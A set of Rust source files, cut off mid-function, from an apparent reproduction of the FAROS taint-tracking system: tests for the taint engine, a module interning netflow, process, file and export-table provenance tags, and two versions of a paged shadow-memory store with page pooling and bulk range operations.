        assert!(e.prov_tags(ShadowAddr::Mem(0x4fff)).is_empty());
        assert!(e.prov_tags(ShadowAddr::Mem(0x5001)).is_empty());
        assert_eq!(e.prov_tags(ShadowAddr::Mem(0x1fff)), &[nf]);
    }

    #[test]
    fn addr_dep_bytes_taints_each_byte_on_its_own_frame() {
        let (mut e, nf) = engine_with_nf(PropagationMode::with_address_deps());
        e.label_fresh(ShadowAddr::Reg { index: 2, off: 0 }, nf);
        // Regression for the page-crossing bug: a 4-byte store at
        // virt 0xffe..0x1002 translates to bytes on two distinct frames.
        let phys = [0x1ffe, 0x1fff, 0x7000, 0x7001];
        e.addr_dep_bytes(&phys, &[(ShadowAddr::Reg { index: 2, off: 0 }, 4)]);
        for &p in &phys {
            assert_eq!(e.prov_tags(ShadowAddr::Mem(p)), &[nf], "byte {p:#x}");
        }
        // The contiguous interpretation would have tainted 0x2000/0x2001.
        assert!(e.prov_tags(ShadowAddr::Mem(0x2000)).is_empty());
        assert!(e.prov_tags(ShadowAddr::Mem(0x2001)).is_empty());
        assert_eq!(e.stats().addr_deps, 1);
        assert_eq!(e.stats().unions, 1);
    }

    #[test]
    fn addr_dep_bytes_respects_direct_only_mode() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        e.label_fresh(ShadowAddr::Reg { index: 2, off: 0 }, nf);
        e.addr_dep_bytes(&[0x1000], &[(ShadowAddr::Reg { index: 2, off: 0 }, 4)]);
        assert!(e.prov_tags(ShadowAddr::Mem(0x1000)).is_empty());
        assert_eq!(e.stats().addr_deps, 1);
        assert_eq!(e.stats().unions, 0);
    }

    #[test]
    fn label_range_clamps_at_top_of_address_space() {
        let (mut e, nf) = engine_with_nf(PropagationMode::direct_only());
        // A range that used to wrap into low memory: 8 bytes from MAX-3.
        e.label_range_fresh(u32::MAX - 3, 8, nf);
        assert_eq!(e.shadow().tainted_mem_bytes(), 4, "clamped at u32::MAX");
        assert!(e.prov_tags(ShadowAddr::Mem(u32::MAX)).contains(&nf));
        assert!(e.prov_tags(ShadowAddr::Mem(0)).is_empty(), "no wrap to low memory");
        assert!(e.prov_tags(ShadowAddr::Mem(3)).is_empty());
        // Same for append_tag_range.
        let p1 = e.tables_mut().intern_process(0x1000, "a.exe").unwrap();
        e.append_tag_range(u32::MAX - 1, 100, p1);
        assert_eq!(e.prov_tags(ShadowAddr::Mem(u32::MAX)), &[nf, p1]);
        assert!(e.prov_tags(ShadowAddr::Mem(0)).is_empty());
        let regions = e.tainted_regions();
        // Two runs at the very top: [MAX-3, MAX-2] with nf, [MAX-1, MAX]
        // with nf->p1. Coalescing near MAX must not overflow.
        assert_eq!(regions.last().map(|r| (r.phys, r.len)), Some((u32::MAX - 1, 2)));
    }
}
