//! The three tag hash maps of FAROS (paper Fig. 5).
//!
//! Every netflow, process, and file tag payload is stored once in the table
//! for its type; the compact [`ProvTag`] carries only
//! the 16-bit index. Export-table tags have no payload and therefore no
//! table (paper §V-A).

use crate::tag::{FileTag, NetflowTag, ProcessTag, ProvTag, TagKind};
use faros_obs::fasthash::FastMap;
use std::fmt;

/// Error returned when a tag table overflows its 16-bit index space.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TagTableFull {
    /// Which table overflowed.
    pub kind: TagKind,
}

impl fmt::Display for TagTableFull {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} tag table exceeded 65536 entries", self.kind)
    }
}

impl std::error::Error for TagTableFull {}

/// Interning store for tag payloads.
///
/// # Examples
///
/// ```
/// use faros_taint::tables::TagTables;
/// use faros_taint::tag::{NetflowTag, TagKind};
///
/// let mut tables = TagTables::new();
/// let nf = NetflowTag {
///     src_ip: [10, 0, 0, 1], src_port: 4444,
///     dst_ip: [10, 0, 0, 2], dst_port: 1080,
/// };
/// let tag = tables.intern_netflow(nf).unwrap();
/// assert_eq!(tag.kind(), TagKind::Netflow);
/// assert_eq!(tables.netflow(tag).unwrap(), &nf);
/// // Interning the same flow again yields the same tag.
/// assert_eq!(tables.intern_netflow(nf).unwrap(), tag);
/// ```
#[derive(Debug, Default)]
pub struct TagTables {
    netflows: Vec<NetflowTag>,
    netflow_index: FastMap<NetflowTag, u16>,
    processes: Vec<ProcessTag>,
    process_index: FastMap<u32, u16>, // keyed by CR3
    files: Vec<FileTag>,
    file_index: FastMap<(String, u32), u16>,
    // The paper's stated future work: "we plan to augment this tag with
    // information about function name, which will require the addition of a
    // corresponding hash map" (§V-A). Entry 0 is the anonymous tag
    // (`ProvTag::EXPORT_TABLE`).
    exports: Vec<String>,
    export_index: FastMap<String, u16>,
}

impl TagTables {
    /// Creates empty tables.
    pub fn new() -> TagTables {
        TagTables::default()
    }

    fn next_index(len: usize, kind: TagKind) -> Result<u16, TagTableFull> {
        u16::try_from(len).map_err(|_| TagTableFull { kind })
    }

    /// Interns a netflow payload, returning its tag.
    ///
    /// # Errors
    ///
    /// Returns [`TagTableFull`] after 65536 distinct flows.
    pub fn intern_netflow(&mut self, nf: NetflowTag) -> Result<ProvTag, TagTableFull> {
        if let Some(&i) = self.netflow_index.get(&nf) {
            return Ok(ProvTag::new(TagKind::Netflow, i));
        }
        let i = Self::next_index(self.netflows.len(), TagKind::Netflow)?;
        self.netflows.push(nf);
        self.netflow_index.insert(nf, i);
        Ok(ProvTag::new(TagKind::Netflow, i))
    }

    /// Interns a process payload (keyed by CR3), returning its tag.
    ///
    /// # Errors
    ///
    /// Returns [`TagTableFull`] after 65536 distinct processes.
    pub fn intern_process(&mut self, cr3: u32, name: &str) -> Result<ProvTag, TagTableFull> {
        if let Some(&i) = self.process_index.get(&cr3) {
            return Ok(ProvTag::new(TagKind::Process, i));
        }
        let i = Self::next_index(self.processes.len(), TagKind::Process)?;
        self.processes.push(ProcessTag { cr3, name: name.to_string() });
        self.process_index.insert(cr3, i);
        Ok(ProvTag::new(TagKind::Process, i))
    }

    /// Interns a file payload, returning its tag. Distinct versions of the
    /// same file intern to distinct tags.
    ///
    /// # Errors
    ///
    /// Returns [`TagTableFull`] after 65536 distinct (file, version) pairs.
    pub fn intern_file(&mut self, name: &str, version: u32) -> Result<ProvTag, TagTableFull> {
        let key = (name.to_string(), version);
        if let Some(&i) = self.file_index.get(&key) {
            return Ok(ProvTag::new(TagKind::File, i));
        }
        let i = Self::next_index(self.files.len(), TagKind::File)?;
        self.files.push(FileTag { name: name.to_string(), version });
        self.file_index.insert(key, i);
        Ok(ProvTag::new(TagKind::File, i))
    }

    /// Interns an export-table entry name (e.g. `ntdll.fdl!VirtualAlloc`),
    /// returning a named export-table tag — the paper's future-work
    /// extension letting reports say *which* function pointer was read.
    /// Index 0 is reserved for the anonymous [`ProvTag::EXPORT_TABLE`].
    ///
    /// # Errors
    ///
    /// Returns [`TagTableFull`] after 65535 distinct names.
    pub fn intern_export(&mut self, name: &str) -> Result<ProvTag, TagTableFull> {
        if self.exports.is_empty() {
            self.exports.push(String::new()); // slot 0: anonymous
        }
        if let Some(&i) = self.export_index.get(name) {
            return Ok(ProvTag::new(TagKind::ExportTable, i));
        }
        let i = Self::next_index(self.exports.len(), TagKind::ExportTable)?;
        self.exports.push(name.to_string());
        self.export_index.insert(name.to_string(), i);
        Ok(ProvTag::new(TagKind::ExportTable, i))
    }

    /// Looks up the name of a named export-table tag. Returns `None` for
    /// the anonymous tag, a non-export tag, or an out-of-range index.
    pub fn export_name(&self, tag: ProvTag) -> Option<&str> {
        if tag.kind() != TagKind::ExportTable || tag.index() == 0 {
            return None;
        }
        self.exports.get(tag.index() as usize).map(String::as_str)
    }

    /// Looks up a netflow payload. Returns `None` if `tag` is not a netflow
    /// tag or is out of range.
    pub fn netflow(&self, tag: ProvTag) -> Option<&NetflowTag> {
        (tag.kind() == TagKind::Netflow)
            .then(|| self.netflows.get(tag.index() as usize))
            .flatten()
    }

    /// Looks up a process payload.
    pub fn process(&self, tag: ProvTag) -> Option<&ProcessTag> {
        (tag.kind() == TagKind::Process)
            .then(|| self.processes.get(tag.index() as usize))
            .flatten()
    }

    /// Looks up the process tag already interned for `cr3`, if any.
    pub fn process_by_cr3(&self, cr3: u32) -> Option<ProvTag> {
        self.process_index.get(&cr3).map(|&i| ProvTag::new(TagKind::Process, i))
    }

    /// Looks up a file payload.
    pub fn file(&self, tag: ProvTag) -> Option<&FileTag> {
        (tag.kind() == TagKind::File)
            .then(|| self.files.get(tag.index() as usize))
            .flatten()
    }

    /// Renders a tag for analyst-facing output, in the paper's Table II
    /// style (`NetFlow: {...}`, `Process: notepad.exe`, ...).
    pub fn display_tag(&self, tag: ProvTag) -> String {
        match tag.kind() {
            TagKind::Netflow => match self.netflow(tag) {
                Some(nf) => format!("NetFlow: {nf}"),
                None => format!("NetFlow: <unknown #{}>", tag.index()),
            },
            TagKind::Process => match self.process(tag) {
                Some(p) => format!("Process: {p}"),
                None => format!("Process: <unknown #{}>", tag.index()),
            },
            TagKind::File => match self.file(tag) {
                Some(f) => format!("File: {f}"),
                None => format!("File: <unknown #{}>", tag.index()),
            },
            TagKind::ExportTable => match self.export_name(tag) {
                Some(name) => format!("Export Table ({name})"),
                None => "Export Table".to_string(),
            },
        }
    }

    /// Number of interned tags of each kind `(netflow, process, file)`.
    pub fn counts(&self) -> (usize, usize, usize) {
        (self.netflows.len(), self.processes.len(), self.files.len())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn nf(port: u16) -> NetflowTag {
        NetflowTag {
            src_ip: [1, 2, 3, 4],
            src_port: port,
            dst_ip: [5, 6, 7, 8],
            dst_port: 80,
        }
    }

    #[test]
    fn interning_is_idempotent() {
        let mut t = TagTables::new();
        let a = t.intern_netflow(nf(1)).unwrap();
        let b = t.intern_netflow(nf(1)).unwrap();
        let c = t.intern_netflow(nf(2)).unwrap();
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(t.counts().0, 2);
    }

    #[test]
    fn process_keyed_by_cr3() {
        let mut t = TagTables::new();
        let a = t.intern_process(0x1000, "a.exe").unwrap();
        let b = t.intern_process(0x1000, "renamed.exe").unwrap();
        assert_eq!(a, b, "same CR3 is the same process identity");
        assert_eq!(t.process(a).unwrap().name, "a.exe");
        assert_eq!(t.process_by_cr3(0x1000), Some(a));
        assert_eq!(t.process_by_cr3(0x2000), None);
    }

    #[test]
    fn file_versions_are_distinct_tags() {
        let mut t = TagTables::new();
        let v1 = t.intern_file("C:/secret.txt", 1).unwrap();
        let v2 = t.intern_file("C:/secret.txt", 2).unwrap();
        assert_ne!(v1, v2);
        assert_eq!(t.file(v1).unwrap().version, 1);
        assert_eq!(t.file(v2).unwrap().version, 2);
    }

    #[test]
    fn lookups_reject_wrong_kind() {
        let mut t = TagTables::new();
        let p = t.intern_process(1, "x.exe").unwrap();
        assert!(t.netflow(p).is_none());
        assert!(t.file(p).is_none());
        assert!(t.process(p).is_some());
    }

    #[test]
    fn export_names_intern_and_display() {
        let mut t = TagTables::new();
        let va = t.intern_export("ntdll.fdl!VirtualAlloc").unwrap();
        let wf = t.intern_export("ntdll.fdl!WriteFile").unwrap();
        assert_ne!(va, wf);
        assert_ne!(va.index(), 0, "index 0 is the anonymous tag");
        assert_eq!(t.intern_export("ntdll.fdl!VirtualAlloc").unwrap(), va);
        assert_eq!(t.export_name(va), Some("ntdll.fdl!VirtualAlloc"));
        assert_eq!(t.export_name(ProvTag::EXPORT_TABLE), None);
        assert_eq!(t.display_tag(va), "Export Table (ntdll.fdl!VirtualAlloc)");
        assert_eq!(t.display_tag(ProvTag::EXPORT_TABLE), "Export Table");
    }

    #[test]
    fn display_matches_table2_shapes() {
        let mut t = TagTables::new();
        let p = t.intern_process(0x3000, "notepad.exe").unwrap();
        assert_eq!(t.display_tag(p), "Process: notepad.exe");
        assert_eq!(t.display_tag(ProvTag::EXPORT_TABLE), "Export Table");
        let f = t.intern_file("a.dll", 1).unwrap();
        assert_eq!(t.display_tag(f), "File: a.dll (v1)");
    }
}
