//! Paged shadow memory: a two-level, physically-indexed shadow substrate.
//!
//! The original shadow memory was a `HashMap<u32, ListId>` — one hash
//! lookup per byte per propagation rule, which dominated the replay-side
//! taint overhead (see `BENCH_replay.json`). Low-overhead DIFT substrates
//! (TaintAssembly's linear shadow memory, SpiderPig's cheap dynamic
//! data-flow instrumentation) use dense region-structured shadows instead;
//! this module is that structure for the FAROS reproduction:
//!
//! * a **page directory** indexed by physical frame number (`addr >> 12`),
//!   grown lazily to the highest frame ever tainted;
//! * lazily-allocated **shadow pages** of 4 Ki [`ListId`] cells, one per
//!   guest byte, each carrying a resident tainted-byte count so a page
//!   whose last tainted byte is cleared is freed again;
//! * a **global tainted-byte counter**, kept exact by `set`, which is what
//!   makes the engine's zero-taint fast path a two-field check.
//!
//! Reads of untainted frames touch no page; writes of [`ListId::EMPTY`]
//! to untainted frames allocate nothing. Iteration is in ascending
//! physical-address order, so the analyst-facing taint map needs no sort.

use crate::provlist::ListId;

/// Bytes covered by one shadow page (matches the guest MMU page size).
pub const SHADOW_PAGE_SIZE: u32 = 4096;

/// log2 of [`SHADOW_PAGE_SIZE`].
const PAGE_SHIFT: u32 = 12;

/// Offset-within-page mask.
const OFFSET_MASK: u32 = SHADOW_PAGE_SIZE - 1;

/// One resident shadow page: a [`ListId`] cell per guest byte of the frame
/// plus the count of non-empty cells.
#[derive(Debug)]
struct ShadowPage {
    /// Number of cells holding a non-empty list.
    occupied: u32,
    /// Cell per byte; length is always [`SHADOW_PAGE_SIZE`].
    cells: Box<[ListId]>,
}

impl ShadowPage {
    fn new() -> ShadowPage {
        ShadowPage {
            occupied: 0,
            cells: vec![ListId::EMPTY; SHADOW_PAGE_SIZE as usize].into_boxed_slice(),
        }
    }
}

/// The paged shadow memory (see module docs).
///
/// # Examples
///
/// ```
/// use faros_taint::paged::PagedShadow;
/// use faros_taint::provlist::ListId;
///
/// let shadow = PagedShadow::new();
/// assert_eq!(shadow.get(0x1000), ListId::EMPTY);
/// assert!(shadow.is_clean());
/// assert_eq!(shadow.resident_pages(), 0);
/// ```
#[derive(Debug, Default)]
pub struct PagedShadow {
    /// Page directory, indexed by physical frame number.
    dir: Vec<Option<Box<ShadowPage>>>,
    /// Global count of tainted (non-empty) bytes across all pages.
    tainted: usize,
}

impl PagedShadow {
    /// Creates an all-untainted shadow with no resident pages.
    pub fn new() -> PagedShadow {
        PagedShadow::default()
    }

    /// Reads the cell for one physical byte.
    #[inline]
    pub fn get(&self, addr: u32) -> ListId {
        match self.dir.get((addr >> PAGE_SHIFT) as usize) {
            Some(Some(page)) => page.cells[(addr & OFFSET_MASK) as usize],
            _ => ListId::EMPTY,
        }
    }

    /// Writes the cell for one physical byte, maintaining the per-page
    /// occupancy and the global tainted-byte count. Clearing the last
    /// tainted byte of a page frees the page; clearing an untainted byte
    /// allocates nothing.
    #[inline]
    pub fn set(&mut self, addr: u32, id: ListId) {
        let pfn = (addr >> PAGE_SHIFT) as usize;
        let off = (addr & OFFSET_MASK) as usize;
        if id.is_empty() {
            let Some(slot) = self.dir.get_mut(pfn) else { return };
            let Some(page) = slot else { return };
            if page.cells[off].is_empty() {
                return;
            }
            page.cells[off] = ListId::EMPTY;
            page.occupied -= 1;
            self.tainted -= 1;
            if page.occupied == 0 {
                *slot = None;
            }
        } else {
            if pfn >= self.dir.len() {
                self.dir.resize_with(pfn + 1, || None);
            }
            let page = self.dir[pfn].get_or_insert_with(|| Box::new(ShadowPage::new()));
            let cell = &mut page.cells[off];
            if cell.is_empty() {
                page.occupied += 1;
                self.tainted += 1;
            }
            *cell = id;
        }
    }

    /// Exact number of tainted bytes across all pages.
    #[inline]
    pub fn tainted_bytes(&self) -> usize {
        self.tainted
    }

    /// Returns `true` when no byte anywhere is tainted — the zero-taint
    /// fast-path predicate.
    #[inline]
    pub fn is_clean(&self) -> bool {
        self.tainted == 0
    }

    /// Number of resident (allocated) shadow pages.
    pub fn resident_pages(&self) -> usize {
        self.dir.iter().filter(|p| p.is_some()).count()
    }

    /// Returns `true` when the page covering `addr` is resident (i.e. at
    /// least one byte of its frame is tainted).
    #[inline]
    pub fn page_resident(&self, addr: u32) -> bool {
        matches!(self.dir.get((addr >> PAGE_SHIFT) as usize), Some(Some(_)))
    }

    /// Iterates over tainted bytes as `(phys_addr, list)` pairs in
    /// ascending physical-address order.
    pub fn iter(&self) -> impl Iterator<Item = (u32, ListId)> + '_ {
        self.dir
            .iter()
            .enumerate()
            .filter_map(|(pfn, slot)| slot.as_ref().map(|page| (pfn, page)))
            .flat_map(|(pfn, page)| {
                let base = (pfn as u32) << PAGE_SHIFT;
                page.cells
                    .iter()
                    .enumerate()
                    .filter(|(_, cell)| !cell.is_empty())
                    .map(move |(off, &cell)| (base | off as u32, cell))
            })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lid(n: u32) -> ListId {
        ListId::from_raw(n)
    }

    #[test]
    fn get_set_round_trip_and_counts() {
        let mut s = PagedShadow::new();
        s.set(0x1234, lid(7));
        assert_eq!(s.get(0x1234), lid(7));
        assert_eq!(s.get(0x1235), ListId::EMPTY);
        assert_eq!(s.tainted_bytes(), 1);
        assert!(!s.is_clean());
        // Overwriting with another list does not double-count.
        s.set(0x1234, lid(9));
        assert_eq!(s.tainted_bytes(), 1);
    }

    #[test]
    fn clearing_last_byte_frees_the_page() {
        let mut s = PagedShadow::new();
        s.set(0x2000, lid(1));
        s.set(0x2fff, lid(2));
        assert_eq!(s.resident_pages(), 1);
        assert!(s.page_resident(0x2abc));
        s.set(0x2000, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 1, "one tainted byte keeps the page");
        s.set(0x2fff, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 0, "fully-cleared page is freed");
        assert!(s.is_clean());
        assert!(!s.page_resident(0x2abc));
    }

    #[test]
    fn clearing_untainted_bytes_allocates_nothing() {
        let mut s = PagedShadow::new();
        s.set(0xffff_0000, ListId::EMPTY);
        assert_eq!(s.resident_pages(), 0);
        assert!(s.is_clean());
        // The directory did not grow either: a high clear is free.
        assert_eq!(s.dir.len(), 0);
    }

    #[test]
    fn pages_are_independent_across_frames() {
        let mut s = PagedShadow::new();
        // Two adjacent physical bytes on different frames.
        s.set(0x1fff, lid(3));
        s.set(0x2000, lid(4));
        assert_eq!(s.resident_pages(), 2);
        assert_eq!(s.get(0x1fff), lid(3));
        assert_eq!(s.get(0x2000), lid(4));
    }

    #[test]
    fn iteration_is_in_ascending_address_order() {
        let mut s = PagedShadow::new();
        for &a in &[0x5001u32, 0x1002, 0x1000, 0x5000, 0x3fff] {
            s.set(a, lid(a));
        }
        let got: Vec<u32> = s.iter().map(|(a, _)| a).collect();
        assert_eq!(got, vec![0x1000, 0x1002, 0x3fff, 0x5000, 0x5001]);
    }

    #[test]
    fn top_of_address_space_is_addressable() {
        let mut s = PagedShadow::new();
        s.set(u32::MAX, lid(1));
        assert_eq!(s.get(u32::MAX), lid(1));
        assert_eq!(s.iter().collect::<Vec<_>>(), vec![(u32::MAX, lid(1))]);
        s.set(u32::MAX, ListId::EMPTY);
        assert!(s.is_clean());
        assert_eq!(s.resident_pages(), 0);
    }
}
