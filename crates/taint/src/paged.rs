//! Paged shadow memory: a two-level, physically-indexed shadow substrate.
//!
//! The original shadow memory was a `HashMap<u32, ListId>` — one hash
//! lookup per byte per propagation rule, which dominated the replay-side
//! taint overhead (see `BENCH_replay.json`). Low-overhead DIFT substrates
//! (TaintAssembly's linear shadow memory, SpiderPig's cheap dynamic
//! data-flow instrumentation) use dense region-structured shadows instead;
//! this module is that structure for the FAROS reproduction:
//!
//! * a **page directory** indexed by physical frame number (`addr >> 12`),
//!   grown lazily to the highest frame ever tainted;
//! * lazily-allocated **shadow pages** of 4 Ki [`ListId`] cells, one per
//!   guest byte, each carrying a resident tainted-byte count so a page
//!   whose last tainted byte is cleared is freed again;
//! * a **global tainted-byte counter**, kept exact by `set`, which is what
//!   makes the engine's zero-taint fast path a two-field check.
//!
//! Reads of untainted frames touch no page; writes of [`ListId::EMPTY`]
//! to untainted frames allocate nothing. Iteration is in ascending
//! physical-address order, so the analyst-facing taint map needs no sort.

use crate::provlist::ListId;

/// Bytes covered by one shadow page (matches the guest MMU page size).
pub const SHADOW_PAGE_SIZE: u32 = 4096;

/// log2 of [`SHADOW_PAGE_SIZE`].
const PAGE_SHIFT: u32 = 12;

/// Offset-within-page mask.
const OFFSET_MASK: u32 = SHADOW_PAGE_SIZE - 1;

/// One resident shadow page: a [`ListId`] cell per guest byte of the frame
/// plus the count of non-empty cells.
#[derive(Debug)]
struct ShadowPage {
    /// Number of cells holding a non-empty list.
    occupied: u32,
    /// Cell per byte; length is always [`SHADOW_PAGE_SIZE`].
    cells: Box<[ListId]>,
}

impl ShadowPage {
    fn new() -> ShadowPage {
        ShadowPage {
            occupied: 0,
            cells: vec![ListId::EMPTY; SHADOW_PAGE_SIZE as usize].into_boxed_slice(),
        }
    }
}

/// Upper bound on pages kept in the free-page pool (1 MiB of shadow cells).
/// Freed pages have `occupied == 0`, which by the occupancy invariant means
/// every cell is already [`ListId::EMPTY`] — so a pooled page can be handed
/// back out with no re-zeroing, avoiding the 16 KiB zeroed allocation that
/// otherwise dominates label-heavy replays with delete/relabel churn.
const PAGE_POOL_MAX: usize = 64;

/// The paged shadow memory (see module docs).
///
/// # Examples
///
/// ```
/// use faros_taint::paged::PagedShadow;
/// use faros_taint::provlist::ListId;
///
/// let shadow = PagedShadow::new();
/// assert_eq!(shadow.get(0x1000), ListId::EMPTY);
/// assert!(shadow.is_clean());
/// assert_eq!(shadow.resident_pages(), 0);
/// ```
#[derive(Debug, Default)]
pub struct PagedShadow {
    /// Page directory, indexed by physical frame number.
    dir: Vec<Option<Box<ShadowPage>>>,
    /// Global count of tainted (non-empty) bytes across all pages.
    tainted: usize,
    /// Freed pages kept for reuse; every pooled page is all-[`ListId::EMPTY`]
    /// (see [`PAGE_POOL_MAX`]). Pages stay boxed in the pool so reuse
    /// moves a pointer, not the 4 Ki cell array.
    #[allow(clippy::vec_box)]
    pool: Vec<Box<ShadowPage>>,
}

impl PagedShadow {
    /// Creates an all-untainted shadow with no resident pages.
    pub fn new() -> PagedShadow {
        PagedShadow::default()
    }

    /// Reads the cell for one physical byte.
    #[inline]
    pub fn get(&self, addr: u32) -> ListId {
        match self.dir.get((addr >> PAGE_SHIFT) as usize) {
            Some(Some(page)) => page.cells[(addr & OFFSET_MASK) as usize],
            _ => ListId::EMPTY,
        }
    }

    /// Writes the cell for one physical byte, maintaining the per-page
    /// occupancy and the global tainted-byte count. Clearing the last
    /// tainted byte of a page frees the page (into the reuse pool);
    /// clearing an untainted byte allocates nothing.
    #[inline]
    pub fn set(&mut self, addr: u32, id: ListId) {
        let pfn = (addr >> PAGE_SHIFT) as usize;
        let off = (addr & OFFSET_MASK) as usize;
        if id.is_empty() {
            let Some(slot) = self.dir.get_mut(pfn) else { return };
            let Some(page) = slot else { return };
            if page.cells[off].is_empty() {
                return;
            }
            page.cells[off] = ListId::EMPTY;
            page.occupied -= 1;
            self.tainted -= 1;
            if page.occupied == 0 {
                let page = slot.take().expect("matched Some");
                if self.pool.len() < PAGE_POOL_MAX {
                    self.pool.push(page);
                }
            }
        } else {
            self.ensure_resident(pfn);
            let page = self.dir[pfn].as_mut().expect("made resident above");
            let cell = &mut page.cells[off];
            if cell.is_empty() {
                page.occupied += 1;
                self.tainted += 1;
            }
            *cell = id;
        }
    }

    /// Grows the directory to cover `pfn` and, if the frame is
    /// non-resident, installs a pooled (all-empty) page when one is
    /// available. Returns `true` when the frame is resident afterwards.
    #[inline]
    fn page_resident_or_pooled(&mut self, pfn: usize) -> bool {
        if pfn >= self.dir.len() {
            self.dir.resize_with(pfn + 1, || None);
        }
        if self.dir[pfn].is_some() {
            return true;
        }
        match self.pool.pop() {
            Some(page) => {
                debug_assert!(
                    page.occupied == 0 && page.cells.iter().all(|c| c.is_empty()),
                    "pooled pages must be fully cleared"
                );
                self.dir[pfn] = Some(page);
                true
            }
            None => false,
        }
    }

    /// Ensures frame `pfn` has a resident page, reusing a pooled
    /// (all-empty) page when one is available.
    #[inline]
    fn ensure_resident(&mut self, pfn: usize) {
        if !self.page_resident_or_pooled(pfn) {
            self.dir[pfn] = Some(Box::new(ShadowPage::new()));
        }
    }

    /// Writes one [`ListId`] across `len` consecutive physical bytes,
    /// resolving each shadow page once instead of once per byte — the bulk
    /// form of [`PagedShadow::set`] behind range labeling and range
    /// deletes, where the per-byte directory walk used to dominate the
    /// whole-corpus replay cost.
    ///
    /// Semantically identical to `for i in 0..len { set(start + i, id) }`,
    /// including occupancy accounting, freeing fully-cleared pages, and
    /// skipping page allocation for empty writes. The caller must clamp
    /// the range so `start + len` does not exceed the address space (see
    /// `TaintEngine::clamp_range`); a clamped range cannot wrap.
    pub fn fill_range(&mut self, start: u32, len: usize, id: ListId) {
        let mut addr = start as u64;
        let end = addr + len as u64;
        debug_assert!(end <= u32::MAX as u64 + 1, "fill_range must be pre-clamped");
        while addr < end {
            let pfn = (addr >> PAGE_SHIFT) as usize;
            let off = (addr & OFFSET_MASK as u64) as usize;
            let span = ((SHADOW_PAGE_SIZE as usize - off) as u64).min(end - addr) as usize;
            if id.is_empty() {
                // Clearing a non-resident page is free.
                if let Some(slot @ Some(_)) = self.dir.get_mut(pfn) {
                    let page = slot.as_mut().expect("matched Some");
                    let cells = &mut page.cells[off..off + span];
                    // A fully-occupied page needs no scan: every cell in the
                    // span is non-empty. Otherwise count and clear in one
                    // pass over the span.
                    let cleared = if page.occupied == SHADOW_PAGE_SIZE {
                        cells.fill(ListId::EMPTY);
                        span
                    } else {
                        let mut cleared = 0usize;
                        for c in cells.iter_mut() {
                            cleared += !c.is_empty() as usize;
                            *c = ListId::EMPTY;
                        }
                        cleared
                    };
                    page.occupied -= cleared as u32;
                    self.tainted -= cleared;
                    if page.occupied == 0 {
                        let page = slot.take().expect("matched Some");
                        if self.pool.len() < PAGE_POOL_MAX {
                            self.pool.push(page);
                        }
                    }
                }
            } else if self.page_resident_or_pooled(pfn) {
                let page = self.dir[pfn].as_mut().expect("resident above");
                let cells = &mut page.cells[off..off + span];
                // An empty page (a reused pooled page) or a fully-occupied
                // one needs no per-cell scan; otherwise count and overwrite
                // in one pass over the span.
                let fresh = if page.occupied == 0 {
                    cells.fill(id);
                    span
                } else if page.occupied == SHADOW_PAGE_SIZE {
                    cells.fill(id);
                    0
                } else {
                    let mut fresh = 0usize;
                    for c in cells.iter_mut() {
                        fresh += c.is_empty() as usize;
                        *c = id;
                    }
                    fresh
                };
                page.occupied += fresh as u32;
                self.tainted += fresh;
            } else {
                // Brand-new page for a fresh label (the common shape for
                // file/netflow source buffers): build it pre-filled with
                // `id` and clear only the complement, instead of a zeroed
                // allocation whose span cells are immediately overwritten.
                let mut cells = vec![id; SHADOW_PAGE_SIZE as usize].into_boxed_slice();
                cells[..off].fill(ListId::EMPTY);
                cells[off + span..].fill(ListId::EMPTY);
                self.dir[pfn] = Some(Box::new(ShadowPage { occupied: span as u32, cells }));
                self.tainted += span;
            }
            addr += span as u64;
        }
    }

    /// Decomposes `[start, start + len)` into maximal runs of bytes sharing
    /// one provenance list, as `(run_start, run_len, id)` triples in
    /// address order. Non-resident pages contribute a single
    /// [`ListId::EMPTY`] run without being touched; resident pages are
    /// scanned as a flat cell slice, so the cost is one directory lookup
    /// per page rather than per byte. Bulk read-modify-write operations
    /// (e.g. appending a process tag to a freshly-labeled buffer, which is
    /// one run in practice) pair this with [`PagedShadow::fill_range`].
    ///
    /// The caller must pre-clamp the range, as for `fill_range`.
    pub fn runs(&self, start: u32, len: usize) -> Vec<(u32, usize, ListId)> {
        let mut out: Vec<(u32, usize, ListId)> = Vec::new();
        let mut push = |addr: u32, span: usize, id: ListId| match out.last_mut() {
            Some(last) if last.2 == id && last.0 as u64 + last.1 as u64 == addr as u64 => {
                last.1 += span;
            }
            _ => out.push((addr, span, id)),
        };
        let mut addr = start as u64;
        let end = addr + len as u64;
        debug_assert!(end <= u32::MAX as u64 + 1, "runs must be pre-clamped");
        while addr < end {
            let pfn = (addr >> PAGE_SHIFT) as usize;
            let off = (addr & OFFSET_MASK as u64) as usize;
            let span = ((SHADOW_PAGE_SIZE as usize - off) as u64).min(end - addr) as usize;
            match self.dir.get(pfn) {
                Some(Some(page)) => {
                    let cells = &page.cells[off..off + span];
                    let mut i = 0;
                    while i < span {
                        let id = cells[i];
                        let mut j = i + 1;
                        while j < span && cells[j] == id {
                            j += 1;
                        }
                        push(addr as u32 + i as u32, j - i, id);
                        i = j;
                    }
                }
                _ => push(addr as u32, span, ListId::EMPTY),
            }
            addr += span as u64;
        }
        out
    }

    /// Exact number of tainted bytes across all pages.
    #[inline]
    pub fn tainted_bytes(&self) -> usize {
        self.tainted
    }

    /// Returns `true` when no byte anywhere is tainted — the zero-taint
    /// fast-path predicate.
    #[inline]
    pub fn is_clean(&self) -> bool {
        self.tainted == 0
    }

    /// Number of resident (allocated) shadow pages.
    pub fn resident_pages(&self) -> usize {
        self.dir.iter().filter(|p| p.is_some()).count()
    }

    /// Returns `true` when the page covering `addr` is resident (i.e. at
    /// least one byte of its frame is tainted).
    #[inline]
    pub fn page_resident(&self, addr: u32) -> bool {
        matches!(self.dir.get((addr >> PAGE_SHIFT) as usize), Some(Some(_)))
    }

    /// Iterates over tainted bytes as `(phys_addr, list)` pairs in
    /// ascending physical-address order.
    pub fn iter(&self) -> impl Iterator<Item = (u32, ListId)> + '_ {
        self.dir
            .iter()
            .enumerate()
            .filter_map(|(pfn, slot)| slot.as_ref().map(|page| (pfn, page)))
            .flat_map(|(pfn, page)| {
                let base = (pfn as u32) << PAGE_SHIFT;
                page.cells
                    .iter()
                    .enumerate()
